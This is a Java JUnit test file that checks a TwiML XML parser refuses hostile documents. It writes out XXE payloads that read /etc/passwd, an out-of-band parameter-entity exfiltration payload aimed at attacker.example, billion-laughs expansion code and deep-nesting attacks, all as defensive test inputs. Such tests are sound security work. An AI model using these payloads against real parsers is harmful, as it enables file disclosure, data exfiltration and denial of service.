package dev.parley.twiml;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.groups.Tuple.tuple;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Queue;
import java.util.concurrent.ConcurrentLinkedQueue;
import java.util.function.Supplier;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Documents written to hurt the server that reads them: external entities (XXE), entity expansion, DTDs,
 * nesting that would overflow a recursive parser, and documents as big and as busy as the 64 KB limit lets
 * them be. Each is refused (or read) quickly, with no file or network access. The timeouts only guard against
 * a hang; no test measures time.
 */
class HostileXmlTest {

    private static final Duration HANG_GUARD = Duration.ofSeconds(10);

    // External entities and DTDs: refused before anything in them is read.

    @Test
    void externalEntityIsRefusedAndNoFileIsRead() throws IOException {
        String document = """
            <?xml version="1.0" encoding="UTF-8"?>
            <!DOCTYPE Response [
              <!ENTITY xxe SYSTEM "file:///etc/passwd">
            ]>
            <Response><Say>&xxe;</Say></Response>
            """;

        for (Compliance compliance : Compliance.values()) {
            ParseResult result = parse(() -> TwimlParser.of(compliance).parse(document));

            assertRefused(result, 2, 1);
            assertThat(result.findings().get(0).message()).contains("DOCTYPE");
            assertNoFileContent(result, Path.of("/etc/passwd"));
        }
    }

    @Test
    void externalEntityInAnAttributeIsRefused() {
        String document = "<!DOCTYPE Response [<!ENTITY xxe SYSTEM \"file:///etc/hostname\">]>"
            + "<Response><Redirect method=\"&xxe;\">/next</Redirect></Response>";

        ParseResult result = parse(() -> TwimlParser.lenient().parse(document));

        assertRefused(result, 1, 1);
        assertNoFileContent(result, Path.of("/etc/hostname"));
    }

    @Test
    void entityReferenceWithoutADtdIsUndefined() {
        ParseResult result = parse(() -> TwimlParser.lenient().parse("<Response><Say>&xxe;</Say></Response>"));

        assertRefused(result, 1, 16);
        assertThat(result.findings().get(0).message()).contains("&xxe;", "not defined");
    }

    @Test
    void billionLaughsIsRefusedWithoutExpanding() {
        StringBuilder dtd = new StringBuilder("<?xml version=\"1.0\"?>\n<!DOCTYPE Response [\n");
        dtd.append("  <!ENTITY lol \"lol\">\n");
        for (int i = 1; i <= 9; i++) {
            String previous = i == 1 ? "&lol;" : "&lol" + (i - 1) + ";";
            dtd.append("  <!ENTITY lol").append(i).append(" \"").append(previous.repeat(10)).append("\">\n");
        }
        String document = dtd + "]>\n<Response><Say>&lol9;</Say></Response>\n";

        ParseResult result = parse(() -> TwimlParser.lenient().parse(document));

        assertRefused(result, 2, 1);
        assertThat(result.toString()).doesNotContain("lollollol");
    }

    @Test
    void quadraticBlowupWithoutADtdIsJustAnUndefinedEntity() {
        String document = "<Response><Say>" + "&a;".repeat(10_000) + "</Say></Response>";

        assertRefused(parse(() -> TwimlParser.lenient().parse(document)), 1, 16);
    }

    @Test
    void parameterEntitiesAreRefused() {
        String document = """
            <!DOCTYPE Response [
              <!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd">
              %remote;
              <!ENTITY % file SYSTEM "file:///etc/passwd">
              <!ENTITY % wrapper "<!ENTITY send SYSTEM 'http://attacker.example/?%file;'>">
              %wrapper;
            ]>
            <Response><Say>&send;</Say></Response>
            """;

        ParseResult result = parse(() -> TwimlParser.lenient().parse(document));

        assertRefused(result, 1, 1);
        assertNoFileContent(result, Path.of("/etc/passwd"));
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "<!DOCTYPE Response SYSTEM \"http://attacker.example/twiml.dtd\"><Response/>",
        "<!DOCTYPE Response PUBLIC \"-//Evil//DTD TwiML//EN\" \"http://attacker.example/twiml.dtd\"><Response/>",
        "<!DOCTYPE Response SYSTEM \"file:///etc/passwd\"><Response/>",
        "<!DOCTYPE Response><Response/>",
        "<!doctype Response SYSTEM \"http://attacker.example/twiml.dtd\"><Response/>"})
    void externalDtdIsRefused(String document) {
        ParseResult result = parse(() -> TwimlParser.lenient().parse(document));

        assertRefused(result, 1, 1);
    }

    @Test
    void doctypeAfterCommentsAndDeclarationIsRefused() {
        String document = "<?xml version=\"1.0\"?>\n<!-- hi -->\n<?pi?>\n<!DOCTYPE Response [<!ENTITY x \"y\">]><Response/>";

        assertRefused(parse(() -> TwimlParser.lenient().parse(document)), 4, 1);
    }

    @Test
    void doctypeInsideTheRootIsRefused() {
        String document = "<Response>\n  <!DOCTYPE Response [<!ENTITY x \"y\">]>\n</Response>";

        assertRefused(parse(() -> TwimlParser.lenient().parse(document)), 2, 3);
    }

    @Test
    void xincludeIsAnUnknownElementAndNothingIsIncluded() {
        String document = "<Response xmlns:xi=\"http://www.w3.org/2001/XInclude\">"
            + "<Say><xi:include href=\"file:///etc/passwd\" parse=\"text\"/></Say><Hangup/></Response>";

        ParseResult result = parse(() -> TwimlParser.lenient().parse(document));

        assertThat(result.findings()).extracting(Finding::code, Finding::column)
            .containsExactly(tuple(12200, 59));
        assertThat(result.response().orElseThrow().verbs()).containsExactly(Say.builder("").build(), Hangup.builder().build());
        assertNoFileContent(result, Path.of("/etc/passwd"));
    }

    // Nesting: the tokenizer is iterative and bounded, so depth cannot overflow the stack.

    @Test
    void deepNestingWithinTheSizeLimitIs12100NotAStackOverflow() {
        // "<a>" is 3 bytes, and an attack need not close its tags: 20,000 levels fit in 64 KB.
        String document = "<Response>" + "<a>".repeat(20_000);
        assertThat(document.length()).isLessThanOrEqualTo(TwimlParser.MAX_BODY_BYTES);

        ParseResult result = parse(() -> TwimlParser.lenient().parse(document));

        assertThat(result.response()).isEmpty();
        assertThat(result.firstError()).get().satisfies(f -> {
            assertThat(f.code()).isEqualTo(12100);
            assertThat(f.message()).contains("nested deeper than " + TwimlParser.MAX_DEPTH);
            // <Response> is level 1, so the first <a> too deep is the 32nd.
            assertThat(f.column()).isEqualTo("<Response>".length() + 3 * (TwimlParser.MAX_DEPTH - 1) + 1);
        });
    }

    @Test
    void deepNestingOfVerbsIs12100() {
        String document = "<Response>" + "<Gather>".repeat(8_000);

        ParseResult result = parse(() -> TwimlParser.strict().parse(document));

        assertThat(result.response()).isEmpty();
        assertThat(result.firstError()).get().extracting(Finding::code).isEqualTo(12200);
        assertThat(result.errors()).extracting(Finding::code).contains(12100);
        assertThat(result.errors().get(result.errors().size() - 1).message()).contains("nested deeper");
    }

    @Test
    void deepNestingUnderAWrongRootIs12100() {
        String document = "<a>".repeat(21_000);

        ParseResult result = parse(() -> TwimlParser.lenient().parse(document));

        assertThat(result.response()).isEmpty();
        assertThat(result.findings()).extracting(Finding::code).containsExactly(12100, 12100);
        assertThat(result.findings().get(1).message()).contains("nested deeper");
    }

    @Test
    void hundredThousandNestedElementsAreTooLargeBeforeTheyAreDeep() {
        String document = "<Response>" + "<a>".repeat(100_000) + "</a>".repeat(100_000) + "</Response>";

        ParseResult result = parse(() -> TwimlParser.lenient().parse(document));

        assertThat(result.findings()).extracting(Finding::code).containsExactly(11750);
    }

    @Test
    void tokenizerRefusesHundredThousandNestedElementsWithoutRecursion() {
        String document = "<Response>" + "<a>".repeat(100_000) + "</a>".repeat(100_000) + "</Response>";
        XmlTokenizer xml = new XmlTokenizer(document, TwimlParser.MAX_DEPTH);

        XmlSyntaxException thrown = parse(() -> {
            try {
                while (xml.next() != XmlTokenizer.Token.EOF) {
                    // read on
                }
                return null;
            } catch (XmlSyntaxException e) {
                return e;
            }
        });

        assertThat(thrown).isNotNull();
        assertThat(thrown.getMessage()).contains("nested deeper than " + TwimlParser.MAX_DEPTH);
        assertThat(thrown.offset).isEqualTo("<Response>".length() + 3 * (TwimlParser.MAX_DEPTH - 1));
    }

    @Test
    void tokenizerWithoutADepthLimitReadsHundredThousandLevelsIteratively() {
        int levels = 100_000;
        String document = "<a>".repeat(levels) + "</a>".repeat(levels);
        XmlTokenizer xml = new XmlTokenizer(document, Integer.MAX_VALUE);

        int[] counts = parse(() -> {
            int starts = 0, ends = 0, deepest = 0;
            try {
                for (XmlTokenizer.Token t = xml.next(); t != XmlTokenizer.Token.EOF; t = xml.next()) {
                    if (t == XmlTokenizer.Token.START) starts++;
                    if (t == XmlTokenizer.Token.END) ends++;
                    deepest = Math.max(deepest, xml.depth());
                }
            } catch (XmlSyntaxException e) {
                throw new AssertionError(e);
            }
            return new int[] {starts, ends, deepest};
        });

        assertThat(counts).containsExactly(levels, levels, levels);
    }

    // Big and busy documents within the limit: read in linear time.

    @Test
    void sixtyFourKilobytesOfUnknownAttributes() {
        StringBuilder document = new StringBuilder("<Response><Say");
        int count = 0;
        while (document.length() < TwimlParser.MAX_BODY_BYTES - 40) {
            document.append(" a").append(count++).append("=\"x\"");
        }
        document.append(">Hi</Say></Response>");
        int attributes = count;

        ParseResult result = parse(() -> TwimlParser.lenient().parse(document.toString()));

        assertThat(result.findings()).hasSize(attributes).allSatisfy(f -> assertThat(f.code()).isEqualTo(12200));
        assertThat(result.response().orElseThrow().verbs()).containsExactly(Say.builder("Hi").build());
    }

    @Test
    void duplicateAttributeAtTheEndOfAHugeList() {
        StringBuilder document = new StringBuilder("<Response><Say");
        int count = 0;
        while (document.length() < TwimlParser.MAX_BODY_BYTES - 60) {
            document.append(" a").append(count++).append("=\"x\"");
        }
        int offset = document.length() + 1;
        document.append(" a0=\"y\">Hi</Say></Response>");

        ParseResult result = parse(() -> TwimlParser.lenient().parse(document.toString()));

        DocumentParseFailureTest.assertParseFailure(result, 1, offset + 1);
    }

    @Test
    void manySmallElements() {
        String document = "<Response>" + "<Pause/>".repeat(8_000) + "</Response>";
        assertThat(document.length()).isLessThanOrEqualTo(TwimlParser.MAX_BODY_BYTES);

        ParseResult result = parse(() -> TwimlParser.strict().parse(document));

        assertThat(result.findings()).isEmpty();
        assertThat(result.response().orElseThrow().verbs()).hasSize(8_000).allMatch(v -> v instanceof Pause);
    }

    @Test
    void manySmallElementsEachWithAFinding() {
        String document = "<Response>\n" + "<Play/>\n".repeat(8_000) + "</Response>";

        ParseResult result = parse(() -> TwimlParser.lenient().parse(document));

        assertThat(result.findings()).hasSize(8_000);
        assertThat(result.findings().get(7_999).line()).isEqualTo(8_001);
        assertThat(result.response().orElseThrow().verbs()).isEmpty();
    }

    @Test
    void oneHugeTextNode() {
        String text = "word ".repeat(13_000).strip();
        String document = "<Response><Say>" + text + "</Say></Response>";

        ParseResult result = parse(() -> TwimlParser.lenient().parse(document));

        assertThat(result.findings()).isEmpty();
        assertThat(((Say) result.response().orElseThrow().verbs().get(0)).text()).isEqualTo(text);
    }

    @Test
    void oneHugeTextNodeOfReferences() {
        String document = "<Response><Say>" + "&amp;&lt;&#65;".repeat(4_500) + "</Say></Response>";

        ParseResult result = parse(() -> TwimlParser.lenient().parse(document));

        assertThat(((Say) result.response().orElseThrow().verbs().get(0)).text()).isEqualTo("&<A".repeat(4_500));
    }

    @Test
    void hugeTextWhereNoneIsAllowed() {
        String document = "<Response>" + "x".repeat(60_000) + "<Hangup/></Response>";

        ParseResult result = parse(() -> TwimlParser.lenient().parse(document));

        assertThat(result.findings()).extracting(Finding::code).containsExactly(12200);
        assertThat(result.findings().get(0).message().length()).isLessThan(200);
    }

    @Test
    void unterminatedCommentAtTheEndOfALargeDocument() {
        String document = "<Response>\n" + "<Pause/>\n".repeat(7_000) + "<!-- never closed " + "-x".repeat(500) + "-";

        ParseResult result = parse(() -> TwimlParser.lenient().parse(document));

        DocumentParseFailureTest.assertParseFailure(result, 7_002, 1);
    }

    @Test
    void unterminatedCdataAtTheEndOfALargeDocument() {
        String document = "<Response>\n" + "<Pause/>\n".repeat(7_000) + "<Say><![CDATA[" + "]]".repeat(500);

        ParseResult result = parse(() -> TwimlParser.lenient().parse(document));

        DocumentParseFailureTest.assertParseFailure(result, 7_002, 6);
    }

    @Test
    void unterminatedAttributeValueAtTheEndOfALargeDocument() {
        String document = "<Response>\n" + "<Pause/>\n".repeat(7_000) + "<Say voice=\"" + "x".repeat(1_000);

        ParseResult result = parse(() -> TwimlParser.lenient().parse(document));

        DocumentParseFailureTest.assertParseFailure(result, 7_002, 12);
    }

    @Test
    void manyCommentsAndProcessingInstructions() {
        String document = "<Response>" + "<!-- c --><?p i?>".repeat(3_500) + "<Hangup/></Response>";

        ParseResult result = parse(() -> TwimlParser.lenient().parse(document));

        assertThat(result.findings()).isEmpty();
        assertThat(result.response().orElseThrow().verbs()).containsExactly(Hangup.builder().build());
    }

    @Test
    void manyAmpersandsWithOneSemicolonFarAway() {
        String document = "<Response><Say>" + "&".repeat(60_000) + ";</Say></Response>";

        assertRefused(parse(() -> TwimlParser.lenient().parse(document)), 1, 16);
    }

    @Test
    void invalidUtf8IsNotAnAttackOnTheSizeCheck() {
        byte[] body = new byte[TwimlParser.MAX_BODY_BYTES];
        Arrays.fill(body, (byte) 0xC3); // a lead byte never followed by its continuation

        ParseResult result = parse(() -> TwimlParser.lenient().parse(body));

        assertThat(result.response()).isEmpty();
        assertThat(result.findings()).extracting(Finding::code).containsExactly(12100);
    }

    @Test
    void parserIsSafeToShareBetweenThreads() throws Exception {
        String good = "<Response><Say>Hi</Say></Response>";
        String bad = "<Response><Say>Hi</Play></Response>";
        TwimlParser parser = TwimlParser.lenient();
        List<Thread> threads = new ArrayList<>();
        Queue<Throwable> failures = new ConcurrentLinkedQueue<>();
        for (int t = 0; t < 8; t++) {
            threads.add(Thread.ofVirtual().start(() -> {
                try {
                    for (int i = 0; i < 500; i++) {
                        assertThat(parser.parse(good).runnable()).isTrue();
                        assertThat(parser.parse(bad).firstError()).get().extracting(Finding::code).isEqualTo(12100);
                    }
                } catch (Throwable e) {
                    failures.add(e);
                }
            }));
        }
        assertTimeoutPreemptively(HANG_GUARD, () -> {
            for (Thread thread : threads) thread.join();
        });
        assertThat(failures).isEmpty();
    }

    private static <T> T parse(Supplier<T> parse) {
        return assertTimeoutPreemptively(HANG_GUARD, parse::get);
    }

    private static void assertRefused(ParseResult result, int line, int column) {
        DocumentParseFailureTest.assertParseFailure(result, line, column);
    }

    /** Nothing of the file's text shows up in the model or any message. */
    private static void assertNoFileContent(ParseResult result, Path file) {
        String everything = result.toString();
        if (!Files.isReadable(file)) return;
        String content;
        try {
            content = Files.readString(file, StandardCharsets.UTF_8);
        } catch (IOException e) {
            return;
        }
        for (String line : content.split("\n")) {
            if (line.strip().length() >= 4) {
                assertThat(everything).doesNotContain(line.strip());
            }
        }
    }
}
